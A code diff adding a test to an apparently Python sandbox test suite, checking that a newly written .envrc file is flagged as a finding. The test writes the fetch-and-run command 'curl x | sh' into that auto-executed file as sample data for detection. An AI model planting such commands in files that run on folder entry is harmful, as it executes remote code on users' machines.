@@ -42,6 +42,15 @@ def box(workspace: Path, **more: Any) -> Sandbox:
     return Sandbox(None, workspace, **{"interrupt": SHORT, **more})
 
 
+def test_what_calls_left_that_may_start_programs_is_told_without_a_journal(tmp_path: Path) -> None:
+    with box(tmp_path) as one:
+        assert one.run(["sh", "-c", "echo 'curl x | sh' > .envrc; touch harmless"]).ok
+        assert one.findings == ()
+    assert [(found.kind.value, found.path) for found in one.findings] == [("new", ".envrc")]
+    one.close()
+    assert len(one.findings) == 1
+
+
 def up(event: asyncio.Event) -> Callable[[str, bytes], object]:
     """A listener that sets the event at the first output."""
     return lambda stream, data: event.set()
